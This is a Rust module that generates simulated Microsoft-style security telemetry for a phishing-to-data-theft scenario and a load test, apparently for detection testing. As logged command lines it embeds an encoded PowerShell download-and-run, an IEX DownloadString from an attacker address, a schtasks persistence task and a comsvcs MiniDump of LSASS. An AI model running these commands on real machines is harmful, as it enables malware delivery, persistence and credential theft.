//! The scenarios' stories, told in hunting rows: what each product saw that made it raise its
//! alert, with the entities and times of the alert's plan.
//!
//! **Multi-stage.** The victim logs on and starts Outlook. The phishing mail arrives
//! (`EmailEvents`, its URL in `EmailUrlInfo`). The victim clicks the link: `outlook.exe` starts
//! `msedge.exe`, which connects to the phishing site and saves a macro document. Word opens it and
//! starts an encoded `powershell.exe` (the alert's parent process id), which fetches the payload from
//! the phishing URL, writes it to Downloads (`DeviceFileEvents`) and starts it (the alert's process
//! id, at the alert's first activity); the payload then calls its command-and-control server
//! (`DeviceNetworkEvents`) until the alert's last activity. Later the attacker, from the same
//! address, sprays the victim's password and signs in to Office 365 (`IdentityLogonEvents`), logs on
//! to the victim's device over Remote Desktop (`DeviceLogonEvents`), and downloads the victim's
//! OneDrive (`CloudAppEvents`, one `FileDownloaded` per file).
//!
//! **Load.** On each incident's device a browser fetches the alert's tool, which is started and then
//! does what the alert says: an encoded PowerShell, a scheduled task, an LSASS dump, or a call home.

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use chrono::{DateTime, TimeDelta, Utc};
use serde_json::json;

use super::Recorder;
use super::cloud_apps::{CloudActivity, CloudActor, CloudObject, apps};
use super::device::{
    Account, Connection, Desktop, Device, DeviceLogon, FileEvent, Image, Process, VersionInfo,
    binaries,
};
use super::email::{Mail, Sender, Verdict};
use super::identity::{Destination, IdentityLogon, Origin};
use crate::plan::{
    LOAD_FILE_NAME, LoadAlert, MASS_DOWNLOAD_FILES, MultiStage, PAYLOAD_COMMAND_LINE, PAYLOAD_NAME,
    PAYLOAD_PARENT_PID, PAYLOAD_PID, PAYLOAD_SIZE, PHISH_SENDER, PHISH_SENDER_NAME, PHISH_SUBJECT,
    VICTIM_DISPLAY_NAME, VICTIM_DNS_DOMAIN, VICTIM_NETBIOS_DOMAIN, Victim,
};

/// The macro document the phishing site serves.
const DOCUMENT_NAME: &str = "Storage_Upgrade_Form.docm";
/// How many passwords the attacker tries before the right one.
const SPRAYED_PASSWORDS: usize = 3;
/// Where the attacker's address is placed.
const ATTACKER_COUNTRY: &str = "NL";
/// The attacker's hosting provider.
const ATTACKER_ISP: &str = "Bulletproof Hosting B.V.";
/// The attacker's tooling, as its user agent says.
const ATTACKER_USER_AGENT: &str = "python-requests/2.31.0";

/// Tells the multi-stage attack.
pub(crate) fn multi_stage(recorder: &mut Recorder, attack: &MultiStage) {
    let victim = &attack.victim;
    let desktop = recorder.log_on(
        victim_device(victim),
        victim_account(victim),
        attack.mail.first - TimeDelta::hours(2),
    );
    let outlook = recorder.spawn(
        &desktop.device,
        &desktop.explorer,
        binaries::OUTLOOK.image(),
        "\"OUTLOOK.EXE\" ".into(),
        desktop.explorer.created + TimeDelta::minutes(3),
    );
    phishing_mail(recorder, attack);
    let browser = click(recorder, attack, &desktop, &outlook);
    malware(recorder, attack, &desktop, &browser);
    sign_in(recorder, attack, &desktop);
    mass_download(recorder, attack);
}

fn victim_device(victim: &Victim) -> Device {
    Device {
        id: victim.device_id.clone(),
        name: victim.device_name.clone(),
        ip: victim.device_ip.clone(),
    }
}

fn victim_account(victim: &Victim) -> Account {
    Account {
        name: victim.account.clone(),
        domain: VICTIM_NETBIOS_DOMAIN.to_lowercase(),
        sid: victim.user_sid.clone(),
        upn: victim.upn.clone(),
        object_id: victim.user_id.clone(),
    }
}

fn phishing_mail(recorder: &mut Recorder, attack: &MultiStage) {
    let victim = &attack.victim;
    let cluster_id = recorder.rng().u64(1 << 40..1 << 48);
    recorder.mail(&Mail {
        network_message_id: attack.network_message_id(),
        internet_message_id: attack.internet_message_id(),
        sender: Sender {
            address: PHISH_SENDER.into(),
            display_name: PHISH_SENDER_NAME.into(),
            object_id: String::new(),
            ip: victim.attacker_ip.clone(),
        },
        recipient: victim.upn.clone(),
        recipient_object_id: victim.user_id.clone(),
        subject: PHISH_SUBJECT.into(),
        direction: "Inbound",
        verdict: Verdict {
            threat_types: "Phish",
            detection_methods: json!({ "Phish": ["URL detonation reputation"] }).to_string(),
            confidence_level: r#"{"Phish":"High","Spam":"Neutral"}"#,
            latest_delivery_location: "Quarantine",
            latest_delivery_action: "Moved to quarantine",
            ..Verdict::clean()
        },
        urls: vec![victim.phishing_url.clone()],
        attachment_count: 0,
        cluster_id,
        authentication: r#"{"SPF":"pass","DKIM":"none","DMARC":"none","CompAuth":"fail"}"#,
        received: attack.mail.first,
    });
}

/// The victim clicks the link: Outlook opens the browser, which saves the macro document.
fn click(
    recorder: &mut Recorder,
    attack: &MultiStage,
    desktop: &Desktop,
    outlook: &Process,
) -> Process {
    let victim = &attack.victim;
    let at = attack.mail.first + TimeDelta::minutes(2);
    let browser = recorder.spawn(
        &desktop.device,
        outlook,
        binaries::MSEDGE.image(),
        format!("\"msedge.exe\" --single-argument {}", victim.phishing_url),
        at,
    );
    let local_port = recorder.rng().u16(49_152..65_535);
    recorder.connection(
        &desktop.device,
        &browser,
        &Connection {
            action: "ConnectionSuccess",
            remote_ip: victim.attacker_ip.clone(),
            remote_port: 443,
            remote_url: victim.phishing_host().into(),
            local_port,
        },
        at + TimeDelta::seconds(1),
    );
    let document = Image::plain(
        DOCUMENT_NAME,
        &victim.downloads_folder(),
        &format!("{}/document", attack.run),
        88_064,
    );
    recorder.file_event(
        &desktop.device,
        &browser,
        &FileEvent {
            action: "FileCreated",
            file: document,
            origin_url: format!("{}/{DOCUMENT_NAME}", victim.phishing_url),
            origin_ip: victim.attacker_ip.clone(),
            previous_name: String::new(),
        },
        at + TimeDelta::seconds(6),
    );
    browser
}

/// Word opens the document; its macro's PowerShell fetches and starts the payload, which calls home.
fn malware(recorder: &mut Recorder, attack: &MultiStage, desktop: &Desktop, browser: &Process) {
    let (victim, device) = (&attack.victim, &desktop.device);
    let first = attack.malware.first;
    let word = recorder.spawn(
        device,
        browser,
        binaries::WINWORD.image(),
        format!(
            "\"WINWORD.EXE\" /n \"{}\\{DOCUMENT_NAME}\" /o \"\"",
            victim.downloads_folder()
        ),
        first - TimeDelta::minutes(3),
    );
    let payload = payload_image(victim);
    let script = format!(
        "$p=\"$env:USERPROFILE\\Downloads\\{PAYLOAD_NAME}\";Invoke-WebRequest -Uri '{}' -OutFile $p;Start-Process $p -ArgumentList '/silent'",
        victim.phishing_url
    );
    let powershell = recorder.spawn_with_pid(
        device,
        &word,
        binaries::POWERSHELL.image(),
        PAYLOAD_PARENT_PID,
        encoded_powershell(&script),
        first - TimeDelta::minutes(2),
    );
    let local_port = recorder.rng().u16(49_152..65_535);
    recorder.connection(
        device,
        &powershell,
        &Connection {
            action: "ConnectionSuccess",
            remote_ip: victim.attacker_ip.clone(),
            remote_port: 443,
            remote_url: victim.phishing_host().into(),
            local_port,
        },
        first - TimeDelta::seconds(110),
    );
    recorder.file_event(
        device,
        &powershell,
        &FileEvent {
            action: "FileCreated",
            file: payload.clone(),
            origin_url: victim.phishing_url.clone(),
            origin_ip: victim.attacker_ip.clone(),
            previous_name: String::new(),
        },
        first - TimeDelta::seconds(100),
    );
    let malware = recorder.spawn_with_pid(
        device,
        &powershell,
        payload,
        PAYLOAD_PID,
        PAYLOAD_COMMAND_LINE.into(),
        first,
    );
    call_home(
        recorder,
        device,
        &malware,
        &victim.attacker_ip,
        first,
        attack.malware.last,
    );
}

/// The malware's image, with the hashes the alert names.
fn payload_image(victim: &Victim) -> Image {
    Image {
        name: PAYLOAD_NAME.into(),
        folder: victim.downloads_folder(),
        sha1: victim.payload_sha1.clone(),
        sha256: victim.payload_sha256.clone(),
        md5: victim.payload_md5.clone(),
        size: PAYLOAD_SIZE,
        version: VersionInfo::NONE,
    }
}

/// The command line of a hidden PowerShell running `script` encoded, as macros start it.
fn encoded_powershell(script: &str) -> String {
    let utf16: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
    format!(
        "powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand {}",
        STANDARD.encode(utf16)
    )
}

/// `malware` beacons to `server` every 90 seconds from `first` to `last`.
fn call_home(
    recorder: &mut Recorder,
    device: &Device,
    malware: &Process,
    server: &str,
    first: DateTime<Utc>,
    last: DateTime<Utc>,
) {
    let mut at = first + TimeDelta::seconds(20);
    while at <= last {
        let local_port = recorder.rng().u16(49_152..65_535);
        let connection = Connection {
            action: "ConnectionSuccess",
            remote_ip: server.into(),
            remote_port: 443,
            remote_url: String::new(),
            local_port,
        };
        recorder.connection(device, malware, &connection, at);
        at += TimeDelta::seconds(90);
    }
}

/// The attacker sprays the victim's password from their address, signs in to Office 365, then logs
/// on to the victim's device over Remote Desktop.
fn sign_in(recorder: &mut Recorder, attack: &MultiStage, desktop: &Desktop) {
    let victim = &attack.victim;
    let first = attack.sign_in.first;
    for attempt in 0..=SPRAYED_PASSWORDS {
        let succeeded = attempt == SPRAYED_PASSWORDS;
        let port = recorder.rng().u16(49_152..65_535);
        let logon = IdentityLogon {
            action: if succeeded {
                "LogonSuccess"
            } else {
                "LogonFailed"
            },
            application: "Office 365",
            logon_type: "Interactive",
            protocol: "",
            failure_reason: if succeeded { "" } else { "WrongPassword" },
            account: desktop.explorer.account.clone(),
            display_name: VICTIM_DISPLAY_NAME.into(),
            origin: Origin {
                device_name: String::new(),
                device_type: "",
                os_platform: "",
                ip: victim.attacker_ip.clone(),
                port,
                location: ATTACKER_COUNTRY,
                isp: ATTACKER_ISP,
            },
            destination: Destination::cloud(),
            additional: json!({ "ARG.CLOUD_SERVICE": "Office 365" }),
        };
        recorder.identity_logon(&logon, first + TimeDelta::seconds(30 * attempt as i64));
    }
    let remote_port = recorder.rng().u16(49_152..65_535);
    let logon_id = recorder.rng().u64(0x10_0000..0xFFF_FFFF);
    let failed = DeviceLogon {
        action: "LogonFailed",
        logon_type: "Network",
        account: desktop.explorer.account.clone(),
        protocol: "NTLM",
        failure_reason: "InvalidUserNameOrPassword",
        is_local_admin: false,
        logon_id: 0,
        remote_ip: victim.attacker_ip.clone(),
        remote_device_name: String::new(),
        remote_port,
    };
    recorder.device_logon(
        &desktop.device,
        &desktop.lsass,
        &failed,
        first + TimeDelta::minutes(3),
    );
    let remote_desktop = DeviceLogon {
        action: "LogonSuccess",
        logon_type: "RemoteInteractive",
        protocol: "Negotiate",
        failure_reason: "",
        logon_id,
        ..failed
    };
    recorder.device_logon(
        &desktop.device,
        &desktop.lsass,
        &remote_desktop,
        attack.sign_in.last,
    );
}

/// The attacker downloads the victim's OneDrive, one file after another, from their address.
fn mass_download(recorder: &mut Recorder, attack: &MultiStage) {
    let victim = &attack.victim;
    let actor = CloudActor {
        object_id: victim.user_id.clone(),
        upn: victim.upn.clone(),
        display_name: VICTIM_DISPLAY_NAME.into(),
        ip: victim.attacker_ip.clone(),
        country_code: ATTACKER_COUNTRY,
        city: "Amsterdam",
        isp: ATTACKER_ISP,
        user_agent: ATTACKER_USER_AGENT,
    };
    let span = attack.download.last - attack.download.first;
    let step = span / (MASS_DOWNLOAD_FILES.max(2) as i32 - 1);
    let site = onedrive_site(&victim.upn);
    for index in 0..MASS_DOWNLOAD_FILES {
        let file_name = work_file_name(recorder, index);
        let url = format!("{site}/Documents/{file_name}");
        let activity = CloudActivity {
            action: "FileDownloaded",
            activity_type: "Download",
            app: apps::ONEDRIVE,
            actor: actor.clone(),
            object: CloudObject {
                name: url.clone(),
                id: url,
                kind: "File",
                file_name,
            },
        };
        recorder.cloud_activity(&activity, attack.download.first + step * index as i32);
    }
}

/// A user's OneDrive site: `https://contoso-my.sharepoint.com/personal/first_last_contoso_com`.
pub(crate) fn onedrive_site(upn: &str) -> String {
    let tenant = VICTIM_DNS_DOMAIN
        .split('.')
        .next()
        .unwrap_or(VICTIM_DNS_DOMAIN);
    let person = upn.replace(['.', '@'], "_");
    format!("https://{tenant}-my.sharepoint.com/personal/{person}")
}

/// The name of a file in a user's OneDrive: a folder of work documents.
pub(crate) fn work_file_name(recorder: &mut Recorder, index: usize) -> String {
    const FOLDERS: [&str; 6] = ["Finance", "HR", "Projects", "Contracts", "Sales", "Board"];
    const KINDS: [(&str, &str); 5] = [
        ("Budget", "xlsx"),
        ("Report", "docx"),
        ("Minutes", "docx"),
        ("Forecast", "xlsx"),
        ("Deck", "pptx"),
    ];
    let folder = FOLDERS[recorder.rng().usize(..FOLDERS.len())];
    let (kind, extension) = KINDS[recorder.rng().usize(..KINDS.len())];
    format!("{folder}/{kind} {:04}.{extension}", index + 1)
}

/// Tells the load scenario: each alert's tool arrives, starts, and does what its alert says.
pub(crate) fn load(recorder: &mut Recorder, alerts: &[LoadAlert]) {
    let mut desktop: Option<Desktop> = None;
    for alert in alerts {
        let victim = &alert.victim;
        let current = match desktop.take() {
            Some(d) if d.device.id == victim.device_id => d,
            _ => {
                let logged_on = alert.first - TimeDelta::hours(1);
                recorder.desktop(victim_device(victim), victim_account(victim), logged_on)
            }
        };
        endpoint_activity(recorder, &current, alert);
        desktop = Some(current);
    }
}

fn endpoint_activity(recorder: &mut Recorder, desktop: &Desktop, alert: &LoadAlert) {
    let (victim, device, at) = (&alert.victim, &desktop.device, alert.first);
    let tool = Image {
        name: LOAD_FILE_NAME.into(),
        folder: victim.downloads_folder(),
        ..payload_image(&alert.file)
    };
    let browser = recorder.spawn(
        device,
        &desktop.explorer,
        binaries::MSEDGE.image(),
        "\"msedge.exe\"".into(),
        at - TimeDelta::seconds(90),
    );
    recorder.file_event(
        device,
        &browser,
        &FileEvent {
            action: "FileCreated",
            file: tool.clone(),
            origin_url: format!("http://{}/{LOAD_FILE_NAME}", victim.attacker_ip),
            origin_ip: victim.attacker_ip.clone(),
            previous_name: String::new(),
        },
        at - TimeDelta::seconds(80),
    );
    let path = tool.path();
    let started = recorder.spawn(
        device,
        &desktop.explorer,
        tool,
        format!("\"{path}\""),
        at - TimeDelta::seconds(60),
    );
    match alert.kind.category {
        "Execution" => {
            let script = format!(
                "IEX (New-Object Net.WebClient).DownloadString('http://{}/a.ps1')",
                victim.attacker_ip
            );
            recorder.spawn(
                device,
                &started,
                binaries::POWERSHELL.image(),
                encoded_powershell(&script),
                at,
            );
        }
        "Persistence" => {
            recorder.spawn(
                device,
                &started,
                binaries::SCHTASKS.image(),
                format!(
                    "schtasks.exe /Create /SC ONLOGON /TN \"OneDrive Update\" /TR \"{path}\" /F"
                ),
                at,
            );
        }
        "CredentialAccess" => {
            let dump = format!("{}\\lsass.dmp", victim.downloads_folder());
            recorder.spawn(
                device,
                &started,
                binaries::RUNDLL32.image(),
                format!(
                    "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump {} {dump} full",
                    desktop.lsass.pid
                ),
                at,
            );
        }
        _ => call_home(recorder, device, &started, &victim.attacker_ip, at, at),
    }
}
